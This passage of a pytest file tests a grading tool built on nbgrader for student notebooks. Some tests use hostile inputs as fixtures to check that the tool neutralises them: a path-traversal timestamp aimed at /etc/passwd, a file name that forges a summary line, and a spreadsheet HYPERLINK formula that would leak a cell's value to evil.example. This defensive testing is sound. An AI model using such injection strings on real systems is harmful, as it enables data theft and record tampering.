        "### BEGIN HIDDEN TESTS\nkept\n### END HIDDEN TESTS",
        "### BEGIN-HIDDEN TESTS\nkept\n### END-HIDDEN TESTS",
    ),
    ("markdown", "### END HIDDEN TESTS", "### END-HIDDEN TESTS"),
    (
        "code",
        "# ### BEGIN HIDDEN TESTS\nnote = 'END HIDDEN TESTS'",
        "# ### BEGIN-HIDDEN TESTS\nnote = 'END-HIDDEN TESTS'",
    ),
]


@pytest.mark.parametrize(("kind", "text", "graded"), STRAY_MARKERS)
def test_nbgraders_markers_in_a_students_own_cell_are_neutralised_with_a_note(kind, text, graded):
    """nbgrader reads its hidden-test markers in any line of any cell: in a cell the student owns they lose their
    meaning (a hyphen after the first word), the cell keeps its text otherwise, and the feedback says why."""
    release = cells.read(build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb")
    submitted = nbformat.reads(nbformat.writes(release), as_version=4)
    make = nbformat.v4.new_markdown_cell if kind == "markdown" else nbformat.v4.new_code_cell
    submitted.cells.insert(1, make(text))
    prepared = match.prepare(submitted, release, release)
    written = "\n".join(cell.source for cell in prepared.notebook.cells)
    assert not any(delimiter in written for delimiter in match.DELIMITERS)
    if kind == "markdown":  # shown as text (course_lib/instructor/inert.py)
        graded = "\n".join(f"    {line}" for line in graded.split("\n"))
    assert graded in [cell.source for cell in prepared.notebook.cells]
    assert any("nbgrader's hidden-test markers" in note for note in prepared.notes), prepared.notes


def test_the_neutralised_markers_are_all_that_grading_and_feedback_read():
    """The course's hidden-test delimiters are the ones neutralised, and no other delimiter-reading preprocessor
    (ClearSolutions, ClearMarkScheme: generate_assignment's) runs in autograde or in Generate Feedback."""
    from traitlets.config.loader import PyFileConfigLoader

    from course_lib.instructor import grade

    config = PyFileConfigLoader("nbgrader_config.py", path=str(build.NOTEBOOKS_DIR)).load_config()
    configured = (config.ClearHiddenTests.begin_test_delimeter, config.ClearHiddenTests.end_test_delimeter)
    assert configured == match.DELIMITERS
    feedback = [name.rsplit(".", 1)[-1] for name in config.GenerateFeedback.preprocessors]
    recorder = grade.NbgraderRecorder(build.NOTEBOOKS_DIR, build.NOTEBOOKS_DIR / "submitted")
    autograde = recorder.api.config.Autograde
    used = feedback + [p.__name__ for p in autograde.sanitize_preprocessors + autograde.autograde_preprocessors]
    assert "ClearHiddenTests" in used and not {"ClearSolutions", "ClearMarkScheme"} & set(used)


def test_a_notebook_nbgrader_refuses_is_recorded_with_its_verdicts_and_the_reason(tmp_path, monkeypatch):
    """Real nbgrader refuses a notebook with an unended hidden-test marker in a student's cell (here one the matcher
    was made to let through); the grade is in the test cells' verdicts, so it is recorded without the student's text,
    at those verdicts, with the reason, and the same again on a rerun."""
    from course_lib.instructor import confined, grade

    monkeypatch.setattr(match, "DELIMITERS", ())
    root = build.copy_course_skeleton(build.NOTEBOOKS_DIR, tmp_path / "course")
    build.build_course(root, only=[CHAPTER])
    source = cells.read(root / "source" / CHAPTER / f"{CHAPTER}.ipynb")
    release = cells.read(root / "release" / CHAPTER / f"{CHAPTER}.ipynb")
    submitted = nbformat.reads(nbformat.writes(release), as_version=4)
    submitted.cells.insert(1, nbformat.v4.new_markdown_cell("### BEGIN HIDDEN TESTS\nno end"))
    passing = {grade_id for grade_id, _, _ in cells.graded_cells(source)}
    failing = sorted(passing)[0]

    def grade_all(jobs, workers, confinement, on_result):
        for job in jobs:
            verdicts = {
                grade_id: CellVerdict(
                    grade_id, points, passed=grade_id != failing, message="wrong" * (grade_id == failing)
                )
                for grade_id, points, _ in job.checker.tests
            }
            on_result(
                job.key,
                {"notebook": job.kernel.notebook, "seconds": 1.0},
                confined.CheckerResult(verdicts=verdicts),
            )

    monkeypatch.setattr(confined, "grade_all", grade_all)
    chapters = {CHAPTER: grade.Chapter(CHAPTER, source, release)}
    (tmp_path / "scratch").mkdir()
    expected = {g: (0.0 if g == failing else p, p) for g, p, _ in cells.graded_cells(source)}
    for _ in range(2):
        ready = [
            (
                submissions.Submission(tmp_path / "ann.ipynb", "ann.ipynb", "ann", CHAPTER, submitted, raw=b"{}"),
                match.prepare(submitted, source, release),
            )
        ]
        [outcome] = grade._execute_and_record(
            root,
            root,
            ready,
            chapters,
            workers=1,
            progress=False,
            limits=(5, 10),
            kernel_name="python3",
            confinement=confined.Confinement(),
            staging=tmp_path / "scratch",
        )
        assert outcome.status == "graded", outcome.reason
        assert any("recorded without your own cells' text" in n and "No end hidden tests" in n for n in outcome.notes)
        assert cell_scores(root, CHAPTER, "ann") == expected


@pytest.mark.parametrize(
    "stamp",
    [
        "last tuesday-ish",
        None,  # None: a folder named timestamp.txt
        "2025-01-01 12:00:00 ../../../etc/passwd",  # dateutil warned: the run stopped
        "2025-01-01 12:00:00 /dev/stdin",
    ],
)  # dateutil read standard input: a hang
def test_a_timestamp_nbgrader_cannot_read_is_left_out_with_a_note(tmp_path, stamp):
    """nbgrader fails a notebook whose timestamp.txt it cannot parse (and a folder by that name crashed the run);
    one stray file in a folder of submissions would fail them all. It is left out, with a note; a good one is kept."""

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    if stamp is None:
        (inbox / "timestamp.txt").mkdir()
    else:
        (inbox / "timestamp.txt").write_text(stamp, encoding="utf-8")
    submission = submissions.Submission(
        inbox / f"ann_{CHAPTER}.ipynb", f"ann_{CHAPTER}.ipynb", "ann", CHAPTER, raw=b"{}"
    )
    staged, note = stage_original(tmp_path / "course", submission)
    assert not staged.exists() and "timestamp.txt beside it was left out" in note
    assert (staged.parent / f"{CHAPTER}.ipynb").read_bytes() == b"{}"
    if stamp is not None:
        (inbox / "timestamp.txt").write_text("2025-03-01 12:00:00.000000 UTC", encoding="utf-8")
        staged, note = stage_original(tmp_path / "course", submission)
        assert note is None and staged.read_text(encoding="utf-8").startswith("2025-03-01")
        (inbox / "timestamp.txt").unlink()  # a later submission without a stamp must not inherit this one
        staged, note = stage_original(tmp_path / "course", submission)
        assert note is None and not staged.exists()


def test_a_student_id_that_differs_only_in_case_from_an_earlier_run_is_held(tmp_path):
    made = [
        submissions.Submission(
            tmp_path / f"{who}_{CHAPTER}.ipynb", f"{who}_{CHAPTER}.ipynb", who, CHAPTER, notebook={}, raw=b"{}"
        )
        for who in ("ALICE", "alice", "bob")
    ]
    submissions.flag_case_clashes(made, ["alice", "carol"])
    upper, same, bob = made
    assert upper.problem.startswith("student id 'ALICE' differs only in case from 'alice', graded before")
    assert same.problem is None and bob.problem is None  # alice again is a regrade, bob is new


def test_student_ids_that_differ_only_in_case_are_one_student(tmp_path):
    """ALICE_ and alice_ would share submitted/, autograded/ and feedback/ folders on macOS or Windows: neither is
    graded, both are named, and the files stay where they are."""
    made = [
        submissions.Submission(
            tmp_path / f"{who}_{CHAPTER}.ipynb", f"{who}_{CHAPTER}.ipynb", who, CHAPTER, notebook={}, raw=b"{}"
        )
        for who in ("ALICE", "alice", "bob")
    ]
    submissions.flag_duplicates(made)
    alice, lower, bob = made
    assert alice.problem == lower.problem and bob.problem is None
    assert alice.problem.startswith(
        f"duplicate: 2 submissions for ALICE/{CHAPTER} / alice/{CHAPTER} (student ids that differ only in case)"
    ), alice.problem


def test_an_unreadable_stamp_inside_submitted_is_not_handed_to_nbgrader(tmp_path):
    """Grading nbgrader's own layout in place: the student's file stays, but nbgrader does not get it."""

    folder = tmp_path / "course" / "submitted" / "ann" / CHAPTER
    folder.mkdir(parents=True)
    (folder / "timestamp.txt").write_text("last tuesday-ish", encoding="utf-8")
    submission = submissions.Submission(folder / f"{CHAPTER}.ipynb", f"ann/{CHAPTER}", "ann", CHAPTER, raw=b"{}")
    staged, note = stage_original(tmp_path / "course", submission)
    assert staged is None and "timestamp.txt beside it was left out" in note
    assert (folder / "timestamp.txt").read_text(encoding="utf-8") == "last tuesday-ish"
    (folder / "timestamp.txt").write_text("2025-03-01 12:00:00.000000 UTC", encoding="utf-8")
    assert stage_original(tmp_path / "course", submission) == (folder / "timestamp.txt", None)


def test_a_kernel_that_does_not_exist_stops_before_anything_is_graded(tmp_path):
    """A mistyped --kernel graded every submission 0 ('NoSuchKernel'), exit 0, and a rerun with the right name then
    skipped them all as already graded."""
    root = build.copy_course_skeleton(build.NOTEBOOKS_DIR, tmp_path / "course")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    shutil.copy(build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb", inbox / f"ann_{CHAPTER}.ipynb")
    completed = _course("grade", str(inbox), "--root", str(root), "--kernel", "course-contaner", cwd=tmp_path)
    assert completed.returncode == 2, completed.stdout + completed.stderr
    assert "--kernel 'course-contaner': no Jupyter kernel spec has that name" in completed.stderr
    assert not (root / "gradebook.db").exists() and not (root / "submitted").exists()


def test_the_course_roots_own_files_are_not_submissions(tmp_path):
    """Pointed at the course root after the feedback step of docs/instructors.md: chapters/*.py and feedback-*.zip were failed as
    submissions (a phantom student 'chapters' in grades.csv); they are the course's own files."""  # noqa: E501
    root = build.copy_course_skeleton(build.NOTEBOOKS_DIR, tmp_path / "course")
    with zipfile.ZipFile(root / "feedback-alice.zip", "w") as archive:
        archive.writestr(f"alice/{CHAPTER}/{CHAPTER}.html", "<html></html>")
    found = submissions.discover(root, [CHAPTER], tmp_path / "scratch")
    assert not found.submissions, [(s.display, s.problem) for s in found.submissions]
    assert f"chapters/{CHAPTER}.py" in found.course_files and "feedback-alice.zip" in found.course_files


def test_the_edited_test_cell_check_needs_no_nbgrader(monkeypatch):
    """course check on Colab (no nbgrader) did not flag an edited test cell: the checksum is now computed here,
    equal to nbgrader's on every graded cell of every chapter."""
    from nbgrader.utils import compute_checksum

    graded = [
        cell
        for notebook in sorted((build.NOTEBOOKS_DIR / "release").glob("*/*.ipynb"))
        for cell in cells.read(notebook).cells
        if cells.nbgrader_meta(cell).get("grade")
    ]
    assert len(graded) > 9 and all(cells.nbgrader_checksum(c) == compute_checksum(c) for c in graded)
    monkeypatch.setitem(sys.modules, "nbgrader.utils", None)  # as on Colab: importing it fails
    monkeypatch.setitem(sys.modules, "nbgrader", None)
    test_cell = next(c for c in graded if not cells.nbgrader_meta(c).get("solution"))
    assert not cells.is_edited_test_cell(test_cell)
    test_cell.source += "\npass"
    assert cells.is_edited_test_cell(test_cell)
    for points in (None, "five"):  # metadata the checksum cannot be computed from: edited, not a crash
        broken = nbformat.from_dict({**test_cell, "metadata": {"nbgrader": {**cells.nbgrader_meta(test_cell)}}})
        broken.metadata.nbgrader.pop("points") if points is None else broken.metadata.nbgrader.update(points=points)
        assert cells.is_edited_test_cell(broken)


def test_the_grader_and_course_check_call_the_same_test_cells_edited(built):
    """One rule for an edited test cell: the grader's note and `course check`'s EDITED agree on each change, the
    metadata stripped by the student's editor or not; the instructor's own notebook is not an edit."""
    _, root, _ = built  # a clean clone has no notebooks/source/ until a build
    release = cells.read(build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb")
    source = cells.read(root / "source" / CHAPTER / f"{CHAPTER}.ipynb")
    grade_id = next(cells.nbgrader_meta(c)["grade_id"] for c in release.cells if cells.is_test_cell(c))

    def notes(submitted):
        return [n for n in match.prepare(submitted, source, release).notes if n.startswith(f"{grade_id}: test cell")]

    for change, edited in (("", False), ("\n", True), ("  ", True), ("\npass", True)):
        for stripped in (False, True):
            student = cells.read(build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb")
            cell = next(c for c in student.cells if cells.nbgrader_meta(c).get("grade_id") == grade_id)
            cell.source += change
            assert cells.is_edited_test_cell(cell) is edited, repr(change)
            if stripped:
                cell.metadata = {}
            assert notes(student) == ([f"{grade_id}: test cell edited; the original was restored and graded"] * edited)
    assert notes(cells.read(root / "source" / CHAPTER / f"{CHAPTER}.ipynb")) == []


def test_build_names_an_unknown_chapter_and_lists_the_real_ones(tmp_path):
    completed = _course("build", "nope", "--root", str(build.NOTEBOOKS_DIR), cwd=tmp_path)
    assert completed.returncode == 2
    assert "unknown chapter 'nope'; the chapters are: 01_length_ledger, 02_templates_and_labels" in completed.stderr


def test_a_broken_notebook_is_described_in_one_readable_phrase():
    from course_lib.instructor.notebook_file import read_notebook

    assert read_notebook(b'{"cells": "abc') == (
        None,
        "not valid JSON (Unterminated string starting at line 1, column 11)",
    )
    assert read_notebook(b'{"cells": [1,]}') == (None, "not valid JSON (Expecting value at line 1, column 14)")


def test_the_build_module_names_an_unknown_chapter_too(capsys):
    assert build.main(["--no-release", "nope"]) == 2
    assert "unknown chapter 'nope'; the chapters are: 01_length_ledger" in capsys.readouterr().err


def _database_rows(path):
    import sqlite3

    connection = sqlite3.connect(path)
    try:
        return connection.execute("select student, score from grades order by student").fetchall()
    finally:
        connection.close()


def _tree(folder):
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("fails", [True, False])
def test_recording_one_submission_is_all_or_nothing(tmp_path, fails):
    """A failure while recording (nbgrader half done, a full disk) leaves the gradebook, the student's autograded
    folder and feedback folder as they were before; a recording that finishes keeps all three."""
    import sqlite3

    root = tmp_path / "course"
    autograded, page = root / "autograded" / "ann" / CHAPTER, root / "feedback" / "ann" / CHAPTER
    for folder in (autograded, page):
        folder.mkdir(parents=True)
        (folder / "old.txt").write_text("earlier grading", encoding="utf-8")
    connection = sqlite3.connect(root / "gradebook.db")
    connection.execute("create table grades (student text, score real)")
    connection.execute("insert into grades values ('ben', 3.0), ('ann', 1.0)")
    connection.commit()
    connection.close()
    before = (_database_rows(root / "gradebook.db"), _tree(autograded), _tree(page))

    def record():
        with all_or_nothing(root, root, "ann", CHAPTER):
            connection = sqlite3.connect(root / "gradebook.db")
            connection.execute("update grades set score = 8.0 where student = 'ann'")
            connection.execute("delete from grades where student = 'ben'")
            connection.commit()
            connection.close()
            (autograded / "old.txt").write_text("half written", encoding="utf-8")
            (page / "new.html").write_text("<p>new</p>", encoding="utf-8")
            if fails:
                raise OSError(28, "No space left on device")

    if fails:
        with pytest.raises(OSError, match="No space left"):
            record()
        assert (_database_rows(root / "gradebook.db"), _tree(autograded), _tree(page)) == before
    else:
        record()
        assert _database_rows(root / "gradebook.db") == [("ann", 8.0)]
        assert _tree(page)["new.html"] == b"<p>new</p>"
    assert not list(root.glob(".recording-*"))  # the copies are gone either way


@pytest.mark.slow
def test_a_setup_cell_out_of_time_marks_the_submission_for_regrading_not_zero(built, tmp_path):
    """A locked setup cell slower than the cell limit (a loaded machine's torch import) is no fault of the
    student's: the submission is not graded but marked for regrading, the summary counts it, grades.csv says why.
    The next run grades the same file again without --force; marked again, it is graded as it stands (here 0: no
    check ran), grades.csv saying why; --force with a sane limit then grades it in full. The course copy's setup
    cell sleeps 2 s, so the 0.5 s limit strikes it on any machine (the checker's own imports may make the real cell
    fast)."""
    base, root, _ = built
    course = tmp_path / "course"
    shutil.copytree(root, course)
    source_path = course / "source" / CHAPTER / f"{CHAPTER}.ipynb"
    source = cells.read(source_path)
    setup = next(cell for cell in source.cells if cells.is_setup(cell))
    setup.source += "\nimport time\ntime.sleep(2)  # a loaded machine\n"
    nbformat.write(source, str(source_path))
    solutions = cells.solution_cells(cells.read(course / "source" / CHAPTER / f"{CHAPTER}.ipynb"))
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    submission_with(course / "release" / CHAPTER / f"{CHAPTER}.ipynb", solutions, inbox / f"rita_{CHAPTER}.ipynb")
    rushed = _course("grade", str(inbox), "--root", str(course), "--cell-timeout", "0.5", "--no-progress", cwd=tmp_path)
    assert rushed.returncode == 1, rushed.stdout + rushed.stderr[-2000:]
    assert "1 submission(s) need regrading through no fault of their own" in rushed.stdout, rushed.stdout
    assert "graded 0, failed 0, skipped 0" in rushed.stdout, rushed.stdout
    row = next(
        line for line in (course / "grades.csv").read_text(encoding="utf-8").splitlines() if line.startswith("rita,")
    )
    # the slow setup cell strikes first, in the student's process or in the checker's wait for it: either way a
    # regrade for running past the limit (which one answers first depends on the machine's load)
    assert "needs regrading: " in row and "ran past 0.5 s" in row, row
    assert not (course / "autograded" / "rita").exists()  # nothing recorded: a zero would have been
    rushed = _course("grade", str(inbox), "--root", str(course), "--cell-timeout", "0.5", "--no-progress", cwd=tmp_path)
    assert "rita/01_length_ledger 0/8" in rushed.stdout, rushed.stdout + rushed.stderr[-2000:]
    row = next(
        line for line in (course / "grades.csv").read_text(encoding="utf-8").splitlines() if line.startswith("rita,")
    )
    assert "graded as it stands: the last run marked this file for regrading" in row, row
    again = _course("grade", str(inbox), "--root", str(course), "--force", "--no-progress", cwd=tmp_path)
    assert again.returncode == 0 and "rita/01_length_ledger 8/8" in again.stdout, again.stdout + again.stderr[-2000:]


def test_formgrader_sees_names_times_and_released_chapters_after_grade(tmp_path):
    """formgrader showed every student as "None, None" with timestamp "None", every chapter as draft, and a banner
    that the exchange directory did not exist. After `course grade`: the roster's names (or the id), each
    submission's file time (a zip member's own), the chapter released into the course's exchange; and nbgrader's own
    commands still work on the course."""
    import csv
    import datetime

    from nbgrader.api import Gradebook
    from nbgrader.apps import NbGraderAPI
    from nbgrader.coursedir import CourseDirectory
    from traitlets.config.loader import PyFileConfigLoader

    root = build.copy_course_skeleton(build.NOTEBOOKS_DIR, tmp_path / "course")
    release = build.NOTEBOOKS_DIR / "release" / CHAPTER / f"{CHAPTER}.ipynb"
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    shutil.copy(release, inbox / f"alice_{CHAPTER}.ipynb")
    os.utime(inbox / f"alice_{CHAPTER}.ipynb", (1_767_225_600, 1_767_225_600))  # 2026-01-01 00:00:00 UTC
    with zipfile.ZipFile(inbox / "more.zip", "w") as archive:  # bob's file as an LMS hands it over: in a zip
        member = zipfile.ZipInfo(f"bob_{CHAPTER}.ipynb", date_time=(2026, 2, 3, 4, 5, 6))
        archive.writestr(member, release.read_bytes())
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "id,first_name,last_name,email\nbob,Bob,Builder,bob@example.org\nzoe,Zoe,Zhang,zoe@example.org\n",
        encoding="utf-8",
    )
    for source in (inbox / f"alice_{CHAPTER}.ipynb", inbox / "more.zip"):
        single = tmp_path / source.stem
        single.mkdir()
        shutil.copy2(source, single / source.name)
        completed = _course(
            "grade",
            str(single if source.suffix == ".ipynb" else single / source.name),
            "--root",
            str(root),
            "--roster",
            str(roster),
            "--no-progress",
            "--workers",
            "1",
            cwd=tmp_path,
        )
        assert "graded 1" in completed.stdout, completed.stdout[-2000:] + completed.stderr[-2000:]
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gradebook:
        alice, bob = gradebook.find_student("alice"), gradebook.find_student("bob")
        assert (alice.first_name, alice.last_name) == ("", "alice")
        assert (bob.first_name, bob.last_name) == ("Bob", "Builder")
        zoe = gradebook.find_student("zoe")  # on the roster, nothing handed in: listed all the same
        assert (zoe.first_name, zoe.last_name) == ("Zoe", "Zhang") and not zoe.submissions
        times = {s: gradebook.find_submission(CHAPTER, s).timestamp for s in ("alice", "bob")}
    assert times["alice"] == datetime.datetime(2026, 1, 1, 0, 0, 0)
    assert times["bob"] == datetime.datetime(2026, 2, 3, 4, 5, 6)
    config = PyFileConfigLoader("nbgrader_config.py", path=str(root)).load_config()
    config.CourseDirectory.root = str(root)
    api = NbGraderAPI(CourseDirectory(config=config), config=config)
    assert not api.exchange_missing and api.get_assignment(CHAPTER)["status"] == "released"
    listed = subprocess.run(
        [sys.executable, "-m", "nbgrader", "db", "student", "list", f"--CourseDirectory.root={root}"],
        cwd=root,
        env=build.interpreter_bin_on_path(),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert listed.returncode == 0 and "bob (Builder, Bob)" in listed.stdout, listed.stdout + listed.stderr
    # a roster passed to a run that grades no one (every file already graded) still names its students
    renamed = tmp_path / "renamed.csv"
    renamed.write_text("id,first_name,last_name\nalice,Alice,Liddell\n", encoding="utf-8")
    again = _course(
        "grade",
        str(tmp_path / f"alice_{CHAPTER}"),
        "--root",
        str(root),
        "--roster",
        str(renamed),
        "--no-progress",
        cwd=tmp_path,
    )
    assert "graded 0, failed 0, skipped 1" in again.stdout, again.stdout[-2000:] + again.stderr[-2000:]
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gradebook:
        alice = gradebook.find_student("alice")
        assert (alice.first_name, alice.last_name) == ("Alice", "Liddell")
    with open(root / "grades.csv", encoding="utf-8", newline="") as table:
        names = {row["student"]: row["name"] for row in csv.DictReader(table)}
    assert names == {"alice": "Alice Liddell", "bob": "Bob Builder"}  # zoe handed nothing in: no row


def test_a_roster_without_an_id_column_or_with_a_repeated_id_is_refused(tmp_path):

    bad = tmp_path / "roster.csv"
    bad.write_text("student,first_name\nbob,Bob\n", encoding="utf-8")
    with pytest.raises(ValueError, match="needs a header row with an 'id' column"):
        read_roster(bad)
    bad.write_text("id,first_name\nbob,Bob\nbob,Robert\n", encoding="utf-8")
    with pytest.raises(ValueError, match="line 3: id 'bob' appears twice"):
        read_roster(bad)
    bad.write_text("id,last_name\n,Nobody\n", encoding="utf-8")
    with pytest.raises(ValueError, match="line 2: empty id"):
        read_roster(bad)
    bad.write_text("id,last_name\nann smith,Smith\n", encoding="utf-8")
    with pytest.raises(ValueError, match="line 2: id 'ann smith' is not a student id"):
        read_roster(bad)
    bad.write_text("id\nann\n", encoding="utf-8")
    assert read_roster(bad) == {"ann": (None, None)}  # no name columns: the gradebook's names stay


def test_a_roster_id_in_another_case_names_the_student_already_graded(tmp_path):
    """A roster's `Alice` beside submissions named `alice_...` once added a second student with nothing handed in."""
    from nbgrader.api import Gradebook

    from course_lib.instructor import grade

    with grade._interpreter_tools_on_path():  # nbgrader creates the gradebook with alembic
        name_student(tmp_path, "alice", None)
        apply_roster(tmp_path, {"Alice": ("Alice", "Liddell"), "zoe": ("Zoe", "Zhang")})
        with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gradebook:
            names = {student.id: (student.first_name, student.last_name) for student in gradebook.students}
    assert names == {"alice": ("Alice", "Liddell"), "zoe": ("Zoe", "Zhang")}


@pytest.mark.parametrize("landlock_abi", [0, 3])
def test_course_grade_warns_when_the_kernel_has_no_landlock(tmp_path, monkeypatch, capsys, landlock_abi):
    """Without Landlock the checker's student processes could rebuild the library or plant modules: say so."""
    from course_lib import cli
    from course_lib.grading import landlock

    root = build.copy_course_skeleton(build.NOTEBOOKS_DIR, tmp_path / "course")
    (tmp_path / "inbox").mkdir()
    monkeypatch.setattr(landlock, "abi", lambda: landlock_abi)
    cli.main(["grade", str(tmp_path / "inbox"), "--root", str(root), "--no-progress"])
    warned = "WARNING: this kernel has no Landlock" in capsys.readouterr().err
    assert warned == (landlock_abi == 0)


def test_names_that_crashed_or_forged_the_run_are_graded_or_failed_and_shown_escaped(built, tmp_path):
    """A red-team inbox: an honest notebook in a Latin-1 folder (`unzip`'s bytes, not UTF-8: the run crashed with
    exit 2 after grading it, leaving no log and no grades.csv), a name that forges a summary line, a name that is a
    spreadsheet formula. The run ends with its summary; the log and grades.csv hold every file as valid text, and
    the formula is inert."""
    import csv

    base, root, _ = built
    course = tmp_path / "course"
    shutil.copytree(root, course)
    solutions = cells.solution_cells(cells.read(course / "source" / CHAPTER / f"{CHAPTER}.ipynb"))
    release = course / "release" / CHAPTER / f"{CHAPTER}.ipynb"
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    latin1 = os.fsencode(inbox) + b"/\xe9t\xe9"
    os.mkdir(latin1)
    honest = submission_with(release, solutions, tmp_path / f"gina_{CHAPTER}.ipynb")
    shutil.copy(honest, os.fsdecode(latin1 + f"/gina_{CHAPTER}.ipynb".encode()))
    forged = f"x\ngraded   bob_{CHAPTER}.ipynb: bob|{CHAPTER} 8|8.ipynb"
    formula = '=HYPERLINK("https:||evil.example|?leak="&E3,"open").ipynb'
    for name in (forged, formula):
        shutil.copy(release, inbox / name)
    completed = _course("grade", str(inbox), "--root", str(course), "--no-progress", "--workers", "1", cwd=tmp_path)
    assert completed.returncode == 1, completed.stdout + completed.stderr[-2000:]  # 1: some files failed
    lines = completed.stdout.splitlines()
    assert f"graded   \\udce9t\\udce9/gina_{CHAPTER}.ipynb: gina/{CHAPTER} 8/8" in lines, completed.stdout
    assert not [line for line in lines if line.startswith("graded   bob")], completed.stdout
    assert "graded 1, failed 2, skipped 0" in completed.stdout, completed.stdout
    log = json.loads((course / "grading_log.json").read_text(encoding="utf-8"))
    assert {entry["file"] for entry in log.values()} == {
        f"\\udce9t\\udce9/gina_{CHAPTER}.ipynb",
        forged.replace("\n", "\\n"),
        formula,
    }
    assert not list(course.glob("grading_log.partial"))
    with open(course / "grades.csv", encoding="utf-8", newline="") as table:
        rows = {row["student"]: row for row in csv.DictReader(table)}
    assert rows["gina"]["score"] == "8.0"
    assert "'" + formula in rows and not [student for student in rows if student.startswith("=")], sorted(rows)


def test_a_recording_nbgrader_refuses_is_reported_with_its_cause(built, tmp_path):
    """nbgrader's own exception says only "Please see the above traceback", and grades.csv kept its last 600
    characters; the cause (here a cell's points that are not a number) is in the log nbgrader captured."""
    import copy

    from course_lib.instructor import grade

    _, root, _ = built
    course = tmp_path / "course"
    shutil.copytree(root, course)
    notebook = copy.deepcopy(cells.read(course / "release" / CHAPTER / f"{CHAPTER}.ipynb"))
    graded = next(cell for cell in notebook.cells if cells.nbgrader_meta(cell).get("grade"))
    graded.metadata["nbgrader"]["points"] = "abc"
    with grade._interpreter_tools_on_path():
        recorder = grade.NbgraderRecorder(course, tmp_path / "staging")
        error = recorder.record("zoe", CHAPTER, notebook, None)
    assert error == "nbgrader autograde failed: ValueError: could not convert string to float: 'abc'"
